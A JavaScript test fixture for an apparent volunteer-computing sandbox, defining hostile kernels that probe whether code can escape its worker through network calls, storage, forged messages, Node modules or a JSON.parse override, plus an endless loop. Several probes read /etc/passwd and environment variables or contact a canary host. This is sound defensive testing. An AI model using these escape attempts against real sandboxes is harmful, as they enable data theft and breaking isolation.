/**
 * A js/1 kernel that tries every way out of a volunteer's sandbox and answers what each attempt
 * did ("blocked: ..." or "ok: ..."). `input.canary` is a URL that records any hit. Shared by the
 * page and Node volunteer tests.
 */
export const HOSTILE_KERNEL = `
export async function compute(input) {
  const canary = input.canary;
  const report = {};
  // QuickJS has no timers: there, an attempt that never settles fails the shard instead.
  const later = () => (typeof setTimeout === "function" ? new Promise((r) => setTimeout(() => r("no answer"), 1000)) : new Promise(() => {}));
  const attempt = async (name, fn) => {
    try {
      const value = await Promise.race([fn(), later()]);
      report[name] = "ok: " + String(value);
    } catch (e) {
      report[name] = "blocked: " + (e && e.name);
    }
  };
  const g = globalThis;
  await attempt("fetch", () => g.fetch(canary + "/fetch"));
  await attempt("import other origin", () => import(canary + "/import.js"));
  await attempt("import same origin", () => import("/build/volunteer.js"));
  await attempt("WebSocket", () => new g.WebSocket(canary.replace("http", "ws") + "/ws"));
  await attempt("EventSource", () => new g.EventSource(canary + "/sse"));
  await attempt("XMLHttpRequest", () => { const x = new g.XMLHttpRequest(); x.open("GET", canary + "/xhr"); x.send(); return "sent"; });
  await attempt("sendBeacon", () => g.navigator.sendBeacon(canary + "/beacon", "x"));
  await attempt("importScripts", () => g.importScripts(canary + "/script.js"));
  await attempt("Worker", () => new g.Worker(canary + "/worker.js"));
  await attempt("navigator.storage", () => g.navigator.storage.getDirectory());
  await attempt("storage getter", () => Object.getOwnPropertyDescriptor(Object.getPrototypeOf(g.navigator), "storage").get.call(g.navigator).getDirectory());
  await attempt("webkitRequestFileSystem", () => g.webkitRequestFileSystemSync(0, 1 << 20).root.getFile("stash.bin", { create: true }).toURL());
  await attempt("navigator.storageBuckets", () => g.navigator.storageBuckets.open("kernel").then((b) => b.getDirectory()));
  await attempt("navigator.locks", () => g.navigator.locks.request("colmeia", () => "locked"));
  await attempt("navigator.gpu", () => g.navigator.gpu.requestAdapter());
  await attempt("indexedDB", () => g.indexedDB.open("colmeia-volunteer"));
  await attempt("caches", () => g.caches.open("colmeia-kernels"));
  await attempt("BroadcastChannel", () => new g.BroadcastChannel("colmeia").postMessage("forged"));
  await attempt("postMessage to the page", () => g.postMessage({ id: "forged", type: "RETURN", value: { ok: true, output: 42 } }));
  await attempt("postMessage via prototype", () => Object.getPrototypeOf(g).postMessage.call(g, "forged"));
  await attempt("require", () => require("node:fs").readFileSync("/etc/passwd", "utf8"));
  await attempt("process", () => process.env.HOME);
  await attempt("import node:fs", () => import("node:fs"));
  await attempt("import node:net", () => import("node:net").then((net) => net.connect(Number(new URL(canary).port), "127.0.0.1")));
  return report;
}
`;

/**
 * A js/1 kernel that poisons its worker's JSON so that the output it returns, "p", reaches the
 * runtime's check as `{n: 1n}`: a value no JSON can carry (the page must refuse it, not store it).
 */
export const JSON_POISON_KERNEL = `
const parse = JSON.parse;
JSON.parse = (t) => (t === '"p"' ? { n: 1n } : parse(t));
export function compute() { return "p"; }
`;

/** A js/1 kernel that never returns. */
export const ENDLESS_KERNEL = "export function compute() { for (;;) {} }";
